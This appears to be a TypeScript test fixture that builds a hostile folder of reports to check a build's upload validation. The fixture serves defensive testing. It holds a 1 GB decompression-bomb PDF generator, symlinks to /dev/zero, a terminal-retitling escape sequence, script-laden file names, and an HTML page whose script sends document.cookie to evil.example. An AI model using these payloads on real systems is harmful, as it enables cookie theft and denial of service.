/**
 * A reports folder an attacker could hand the build, written at run time into a temporary folder:
 * good reports under hostile names, and bad files of every kind, each with the words its one line
 * must contain. Nothing here is committed as a file: FIFOs, device links and bombs are made fresh.
 */
import { mkdirSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { spawnSync } from 'node:child_process';
import { constants, deflateRawSync } from 'node:zlib';
import { seedText } from './seed';
import { fsPath, nameFromBytes } from '../../src/lib/server/file-names';

/**
 * A zlib stream inflating to `size` spaces (a multiple of 16 MB): one 16 MB block compressed once and
 * repeated (a full flush makes blocks independent), so making a 1 GB bomb takes a fraction of a second.
 */
export function deflatedSpaces(size: number): Buffer {
	const step = 16 * 1048576;
	const block = deflateRawSync(Buffer.alloc(step, 0x20), { level: 9, finishFlush: constants.Z_FULL_FLUSH });
	const blocks: Buffer[] = Array.from({ length: Math.ceil(size / step) }, () => block);
	return Buffer.concat([Buffer.from([0x78, 0xda]), ...blocks, deflateRawSync(Buffer.alloc(0))]);
}

/** A minimal PDF of `pages` pages; with `inflated` set, its one content stream inflates to that many bytes. */
export function makePdf({ pages = 1, inflated = 0 }: { pages?: number; inflated?: number }): Buffer {
	const stream = deflatedSpaces(inflated);
	const kids = Array.from({ length: pages }, (_, i) => `${i + 4} 0 R`).join(' ');
	const parts: (string | Buffer)[] = [
		'%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n',
		`2 0 obj << /Type /Pages /Kids [${kids}] /Count ${pages} >> endobj\n`,
		`3 0 obj << /Length ${stream.length} /Filter /FlateDecode >> stream\n`,
		stream,
		'\nendstream endobj\n',
		...Array.from({ length: pages }, (_, i) => `${i + 4} 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 3 0 R >> endobj\n`),
		'trailer << /Root 1 0 R >>\n%%EOF\n'
	];
	return Buffer.concat(parts.map((p) => (typeof p === 'string' ? Buffer.from(p, 'latin1') : p)));
}

/** The seed report as an HTML page carrying script, handlers and third-party resources. */
export function hostileHtml(text: string): string {
	const paragraphs = text
		.split('\n')
		.map((l) => `<p>${l.replace(/&/g, '&amp;').replace(/</g, '&lt;')}</p>`)
		.join('\n');
	return `<!doctype html><html><head><base href="http://evil.example/"><script>window.parent.pwned = 1; fetch('http://evil.example/steal?' + document.cookie)</script>
<link rel="stylesheet" href="http://evil.example/track.css"></head>
<body onload="document.title='pwned'"><img src="http://evil.example/pixel.png"><iframe src="http://evil.example/frame"></iframe>
<article>${paragraphs}</article><script src="http://evil.example/x.js"></script></body></html>`;
}

/** Good reports: file name → the id it must be published under. */
export const GOOD: Record<string, string> = {
	'hengyang-guotu-2018.txt': 'hengyang-guotu-2018',
	'hash#name.txt': 'hash-name',
	'query?name.txt': 'query-name',
	'percent%41name.txt': 'percent-41name',
	'tab\tname.txt': 'tab-name',
	'new\nline.txt': 'new-line',
	'back\\slash.txt': 'back-slash',
	'equals=name.txt': 'equals-name',
	'plus+name.txt': 'plus-name',
	'colon:name.txt': 'colon-name',
	'zero\u200bwidth\u202ename.txt': 'zerowidthname',
	'<script>alert(1)<\\script>.txt': 'script-alert-1-script',
	// 2023年报告.txt in GBK (a zip made on Chinese Windows): not UTF-8, published as its GB18030 reading.
	[nameFromBytes(Buffer.from([0x32, 0x30, 0x32, 0x33, 0xc4, 0xea, 0xb1, 0xa8, 0xb8, 0xe6, 0x2e, 0x74, 0x78, 0x74]))]: '2023年报告',
	// Files Kit writes under /reports/ for the catalogue page itself.
	'index.html.txt': 'index.html-2',
	'__data.json.txt': '__data.json-2',
	// A table cell holding an escape sequence that would retitle the operator's terminal (OSC 0 … BEL).
	'esc.txt': 'esc',
	'Case.txt': 'Case',
	'case.txt': 'case-2',
	'dup.htm': 'dup',
	'other.html': 'other',
	[`${'长'.repeat(80)}.txt`]: '' // filled in by the test: cut to length with a hash
};

/** Bad entries: file name → words its one line must hold. */
export const BAD: Record<string, RegExp> = {
	'.hidden.txt': /hidden file/,
	'notes.odt': /not a report form \(\.odt/,
	'folder': /a folder/,
	'pipe.txt': /a FIFO \(named pipe\), not a regular file; refused/,
	'zero.txt': /symlink leading out of the reports folder \(to \/dev\/zero\)|symlink to a character device/,
	'outside.txt': /symlink leading out of the reports folder/,
	'dangling.txt': /dangling symlink/,
	'bomb.pdf': /inflate to more than 200 MB/,
	'pages.pdf': /PDF has 600 pages, over the 500-page limit/,
	'empty.txt': /empty file/,
	'big.txt': /over the 1\.0 MB limit for one file \(MAX_REPORT_MB\)/,
	'other.txt': /reports 2018 衡阳市国土资源局, but .*other\.html reports 2024 衡阳市国土资源局: not published as another form/,
	'###.txt': /no letter or digit/
};

/** Writes the hostile folder into `dir` (which must exist); `outside` is a file beside it. */
export function writeHostileFolder(dir: string, outside: string): void {
	const seed = seedText();
	// Each good name holds its own numbers: the same agency, year and numbers under two names would be one report.
	const own = (k: number) => seed.replace('\n3356 |\n', `\n${3400 + k} |\n`);
	Object.keys(GOOD).forEach((name, k) => {
		if (!/\.html?$/.test(name)) writeFileSync(fsPath(join(dir, name)), own(k));
	});
	writeFileSync(join(dir, 'esc.txt'), seed.replace('\n3356 |\n', '\n33\u001b]0;pwned\u000756 |\n'));
	writeFileSync(join(dir, 'dup.htm'), hostileHtml(seed));
	writeFileSync(join(dir, 'dup.txt'), seed);
	writeFileSync(join(dir, 'dup.TXT'), seed);
	writeFileSync(join(dir, 'other.html'), hostileHtml(seed.replace('2018年政府信息公开年度报告', '2024年政府信息公开年度报告')));
	writeFileSync(join(dir, 'other.txt'), own(-1));
	writeFileSync(join(dir, '.hidden.txt'), seed);
	writeFileSync(join(dir, 'notes.odt'), 'not a report');
	mkdirSync(join(dir, 'folder'));
	if (spawnSync('mkfifo', [join(dir, 'pipe.txt')]).status !== 0) throw new Error('mkfifo failed');
	symlinkSync('/dev/zero', join(dir, 'zero.txt'));
	writeFileSync(outside, seed);
	symlinkSync(outside, join(dir, 'outside.txt'));
	symlinkSync(join(dir, 'missing-target.txt'), join(dir, 'dangling.txt'));
	writeFileSync(join(dir, 'bomb.pdf'), makePdf({ inflated: 1024 * 1048576 }));
	writeFileSync(join(dir, 'pages.pdf'), makePdf({ pages: 600 }));
	writeFileSync(join(dir, 'empty.txt'), '');
	writeFileSync(join(dir, 'big.txt'), seed.repeat(Math.ceil(1.5 * 1048576 / Buffer.byteLength(seed))));
	writeFileSync(join(dir, '###.txt'), seed);
}
